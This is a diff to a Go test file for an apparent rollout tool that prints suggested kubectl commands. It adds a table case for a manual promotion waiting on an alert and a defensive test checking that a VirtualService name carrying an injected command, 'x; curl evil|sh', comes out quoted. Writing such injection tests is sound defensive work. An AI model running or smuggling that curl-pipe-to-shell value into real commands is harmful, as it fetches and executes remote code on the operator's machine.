@@ -196,7 +196,10 @@ func TestAPausedGuardIsOfferedWhatEndsThePause(t *testing.T) {
 	if !strings.Contains(by, "resume orders -n shop --reason") || strings.Contains(by, " pause ") {
 		t.Error(by)
 	}
-	on := paused(decision.Status{ByPersons: decision.ByPersons{PausedOnVS: true}, Moves: &decision.Moves{VirtualServices: []string{"routes"}}})
+	on := paused(decision.Status{ByPersons: decision.ByPersons{PausedOnVS: true}, Moves: &decision.Moves{VirtualServices: []string{"routes", "x; curl evil|sh"}}})
+	if !strings.Contains(on, "virtualservice 'x; curl evil|sh' -n shop") {
+		t.Error(on)
+	}
 	if !strings.Contains(on, "kubectl annotate virtualservice routes -n shop "+decision.AnnotationPaused+"-") || strings.Contains(on, "pause orders") {
 		t.Error(on)
 	}
@@ -209,8 +212,10 @@ func TestTheCommandsAreThoseThatAreNotRefused(t *testing.T) {
 		record decision.Record
 		verbs  string
 	}{
-		"shifting":             {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10}}, "rollback pause disarm status"},
-		"with steps":           {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10, StepStatus: steps}}, "rollback promote pause disarm status"},
+		"shifting":   {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10}}, "rollback pause disarm status"},
+		"with steps": {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10, StepStatus: steps}}, "rollback promote pause disarm status"},
+		"waits for an alert's end": {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10, StepStatus: decision.StepStatus{
+			Mode: decision.PromotionManual, NextStep: 50, WaitingFor: decision.WaitAlert}}}, "rollback pause disarm status"},
 		"idle with steps":      {decision.Record{Status: decision.Status{State: decision.StateIdle, StepStatus: steps}}, "promote pause disarm status"},
 		"held with steps":      {decision.Record{Status: decision.Status{State: decision.StateHeld, Weight: 10, StepStatus: steps}}, "rollback pause disarm status"},
 		"rolled back":          {decision.Record{Lock: &decision.Lock{}, Status: decision.Status{State: decision.StateRolledBack, StepStatus: steps}}, "unlock pause disarm status"},
